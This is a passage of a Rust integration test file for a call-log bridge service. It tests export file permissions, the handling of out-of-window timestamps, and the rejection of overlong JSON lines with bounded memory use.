    let path = file.to_str().unwrap();
    let listed = analyst.run(true, &["ls", ex.export.to_str().unwrap()]);
    assert!(listed.status.success(), "{}", String::from_utf8_lossy(&listed.stderr));
    assert!(String::from_utf8_lossy(&listed.stdout).contains(name));
    let read = analyst.run(true, &["cat", path]);
    assert!(read.status.success(), "{}", String::from_utf8_lossy(&read.stderr));
    assert_eq!(read.stdout, fs::read(&file).unwrap());
    // The same account without the group: neither.
    let denied = analyst.run(false, &["cat", path]);
    assert!(!denied.status.success(), "read without the group");
    assert!(String::from_utf8_lossy(&denied.stderr).contains("Permission denied"), "{}", String::from_utf8_lossy(&denied.stderr));
    ex.stop();

    // No group set: a directory the bridge creates under UMask=0077 (in
    // its state directory, as the default `dir` is) is still 0750 and its
    // files 0640 (the service's group reads).
    let fresh = ex.state.join("export");
    let text =
        fs::read_to_string(&ex.config).unwrap().replace("dir = \"export\"", "dir = \"state/export\"").replace("group = ", "# group = ");
    fs::write(&ex.config, text).unwrap();
    let log = fs::OpenOptions::new().create(true).append(true).open(&ex.log).unwrap();
    let before = ex.log_text().matches("bridge running").count();
    ex.child = Some(as_service(&["run", "--config", &config]).stdin(Stdio::null()).stdout(Stdio::null()).stderr(log).spawn().unwrap());
    support::poll_until(DEADLINE, "the bridge to start again", || {
        if let Some(Ok(Some(status))) = ex.child.as_mut().map(|c| c.try_wait()) {
            panic!("the bridge exited with {status}:\n{}", ex.log_text());
        }
        (ex.log_text().matches("bridge running").count() > before).then_some(())
    });
    ex.append(&batch("h", 5, "2026-11-29T10:01:05Z"));
    let second = fresh.join("calllog-2026-11-29T10-01Z.csv.gz");
    support::poll_until(DEADLINE, "the slice published", || second.exists().then_some(()));
    assert_eq!(fs::metadata(&fresh).unwrap().mode() & 0o7777, 0o750, "the directory: the group may list it");
    assert_eq!(fs::metadata(&second).unwrap().mode() & 0o7777, 0o640);
    ex.stop();
}

/// The rows of a file still being written (a `.partial`): everything
/// synced decodes, the unfinished gzip stream's end does not.
fn read_partial_csv(path: &Path) -> Vec<Vec<String>> {
    let mut bytes = Vec::new();
    let _ = flate2::read::MultiGzDecoder::new(fs::File::open(path).unwrap()).read_to_end(&mut bytes);
    let text = String::from_utf8(bytes).unwrap();
    let end = text.rfind("\r\n").map_or(0, |i| i + 2);
    parse_csv(&text[..end])
}

#[test]
fn records_far_in_the_past_or_future_go_to_one_counted_out_of_window_file() {
    // The default window: a week back, an hour ahead.
    let mut ex = Ex::new("close_after_secs = 1\nmax_past_hours = 168\n");
    ex.start();
    // 3,000 records with clocks from 1970 to 9999, each in a slice of its
    // own, and 10 of now.
    let far: Vec<(String, String)> = (0..3000)
        .map(|i| {
            let year = if i % 2 == 0 { 1970 + i / 60 } else { 2100 + i * 2 };
            (format!("far-{i:04}"), format!("{year:04}-06-15T{:02}:{:02}:07Z", i % 24, i % 60))
        })
        .collect();
    let now = calllog_bridge::time::now_ms();
    let recent = batch("now", 10, &calllog_bridge::time::format_iso_seconds(now - 30_000));
    ex.append(&[far.clone(), recent].concat());
    support::poll_until(DEADLINE, "every record written", || {
        let e = ex.status()["export"].clone();
        (e["out_of_window"] == 3000 && e["records"] == 10).then_some(())
    });
    let (code, metrics) = http_get(&ex.status_addr(), "/metrics");
    assert_eq!(code, 200);
    assert!(metrics.contains("calllog_bridge_export_out_of_window_total 3000"), "{metrics}");
    // One out-of-window file, not a file per record.
    let names: Vec<String> = fs::read_dir(&ex.export).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    let outside: Vec<&String> = names.iter().filter(|n| n.contains("out-of-window-")).collect();
    assert_eq!(outside.len(), 1, "{names:?}");
    assert!(names.len() <= 4, "the slice of now (maybe two), the out-of-window file: {names:?}");
    support::poll_until(DEADLINE, "the log line", || ex.log_text().contains("out-of-window file").then_some(()));
    ex.stop();
    // Every record is there, with its own request_time.
    let rows = read_partial_csv(&ex.export.join(outside[0]));
    assert_eq!(rows[0], COLUMNS);
    let got: Vec<(String, String)> = rows[1..].iter().map(|r| (r[2].clone(), r[11].clone())).collect();
    assert_eq!(got, far, "in arrival order, request_time as it was");
}

/// The peak memory of a running process (VmHWM less its file-backed
/// pages), or `None` once it is gone.
fn peak_memory(pid: u32) -> Option<u64> {
    let text = fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let kb = |field: &str| -> Option<u64> { text.lines().find(|l| l.starts_with(field))?.split_whitespace().nth(1)?.parse().ok() };
    Some(kb("VmHWM:")?.saturating_sub(kb("RssFile:")?) * 1024)
}

#[test]
fn the_export_command_reads_pretty_printed_ecls_as_parse_does_and_bounds_long_lines() {
    let dir = tempfile::tempdir().unwrap();
    let captured = fs::read(support::sample("ecls-message.json")).unwrap();
    let msg: serde_json::Value = serde_json::from_slice(&captured).unwrap();
    let with = |uuid: &str, ua: &str| {
        let mut r = msg["data"][0].clone();
        r["request_uuid"] = uuid.into();
        r["user_agent"] = ua.into();
        r
    };
    // The capture as it is (pretty-printed), a pretty-printed message of
    // two, one on one line, a line longer than --max-line-bytes, and a
    // pretty-printed message after it.
    let mut text = String::from_utf8(captured.clone()).unwrap();
    if !text.ends_with('\n') {
        text.push('\n');
    }
    let pair = serde_json::json!({ "data": [with("pretty-a", "ua, \"a\""), with("pretty-b", "ua\nb")] });
    text += &format!("{}\n", serde_json::to_string_pretty(&pair).unwrap());
    text += &format!("{}\n", serde_json::json!({ "data": [with("one-line", "one")] }));
    text += &format!("{}\n", serde_json::json!({ "data": [with("too-long", &"x".repeat(10_000))] }));
    text += &format!("{}\n", serde_json::to_string_pretty(&serde_json::json!({ "data": [with("after", "after")] })).unwrap());
    let input = dir.path().join("capture.json");
    fs::write(&input, &text).unwrap();
    let want = ["132da36d-37b7-41e4-9d03-5e9f900f13c4", "pretty-a", "pretty-b", "one-line", "after"];

    // `parse` (the ecls shape: every value as its text).
    let rej_parse = dir.path().join("parse-rejects.ndjson");
    let p = support::run(&[
        "parse",
        "--format",
        "ecls",
        "--output",
        "ecls",
        "--max-line-bytes",
        "4096",
        "--rejects",
        rej_parse.to_str().unwrap(),
        input.to_str().unwrap(),
    ]);
    assert!(p.status.success(), "{}", String::from_utf8_lossy(&p.stderr));
    let parsed: Vec<serde_json::Value> = String::from_utf8_lossy(&p.stdout)
        .lines()
        .flat_map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap()["data"].as_array().unwrap().clone())
        .collect();
    assert_eq!(parsed.iter().map(|r| r["request_uuid"].as_str().unwrap()).collect::<Vec<_>>(), want);

    // `export`, all 39 columns, plain CSV, raw values (compared as they are).
    let out = dir.path().join("export");
    let rej_export = dir.path().join("export-rejects.ndjson");
    let mut c = support::cmd();
    c.args(["export", "--from", "2019-04-19T00:00:00Z", "--to", "2019-04-20T00:00:00Z", "--format", "ecls", "--max-line-bytes", "4096"])
        .args(["--include-org", "--no-gzip", "--no-escape-formulas", "--rejects"])
        .arg(&rej_export)
        .arg("--dir")
        .arg(&out)
        .arg(&input);
    let e = c.output().unwrap();
    let err = String::from_utf8_lossy(&e.stderr);
    assert!(e.status.success(), "{err}");
    assert!(err.contains("too_long 1") && err.contains("1 rejects"), "{err}");
    let rows = parse_csv(&fs::read_to_string(out.join("calllog-2019-04-19T21-30Z.csv")).unwrap());
    let header = rows[0].clone();
    assert_eq!(header.len(), 39);
    assert_eq!(rows[1..].iter().map(|r| r[2].as_str()).collect::<Vec<_>>(), want, "the same records, in order");
    for (row, rec) in rows[1..].iter().zip(&parsed) {
        for (col, v) in header.iter().zip(row) {
            assert_eq!(rec[col.as_str()].as_str(), Some(v.as_str()), "{col} of {}", row[2]);
        }
    }
    // The same reject, with file, line and reason.
    let rejects = |p: &Path| -> Vec<(u64, String)> {
        fs::read_to_string(p)
            .unwrap()
            .lines()
            .map(|l| {
                let v: serde_json::Value = serde_json::from_str(l).unwrap();
                (v["line"].as_u64().unwrap(), v["reason"].as_str().unwrap().to_string())
            })
            .collect()
    };
    assert_eq!(rejects(&rej_export), rejects(&rej_parse));
    assert_eq!(rejects(&rej_export).len(), 1);
    assert_eq!(rejects(&rej_export)[0].1, "too_long");

    // A 64 MiB line (gzipped, so the file is small): rejected without
    // being held; the records around it are exported.
    let gz = dir.path().join("long.json.gz");
    {
        let mut w = flate2::write::GzEncoder::new(fs::File::create(&gz).unwrap(), flate2::Compression::fast());
        writeln!(w, "{}", serde_json::json!({ "data": [with("before-long", "b")] })).unwrap();
        let chunk = vec![b'y'; 1 << 20];
        for _ in 0..64 {
            w.write_all(&chunk).unwrap();
        }
        writeln!(w).unwrap();
        writeln!(w, "{}", serde_json::json!({ "data": [with("after-long", "a")] })).unwrap();
        w.finish().unwrap();
    }
    let out2 = dir.path().join("export-long");
    let mut c = support::cmd();
    c.args(["export", "--from", "2019-04-19T00:00:00Z", "--to", "2019-04-20T00:00:00Z", "--format", "ecls", "--dir"])
        .arg(&out2)
        .arg(&gz)
        .stdout(Stdio::null())
        .stderr(Stdio::piped());
    let mut child = c.spawn().unwrap();
    let mut peak = 0;
    while child.try_wait().unwrap().is_none() {
        peak = peak.max(peak_memory(child.id()).unwrap_or(0));
        std::thread::sleep(Duration::from_millis(5));
    }
    let done = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&done.stderr);
    assert!(done.status.success(), "{err}");
    assert!(err.contains("too_long 1"), "{err}");
    eprintln!("export: peak memory {} KiB reading a 64 MiB line", peak >> 10);
    assert!(peak < 32 << 20, "peak memory {} MiB reading a 64 MiB line with --max-line-bytes 1 MiB", peak >> 20);
    let rows = read_csv(&out2.join("calllog-2019-04-19T21-30Z.csv.gz"));
    assert_eq!(rows[1..].iter().map(|r| r[2].as_str()).collect::<Vec<_>>(), ["before-long", "after-long"]);
}
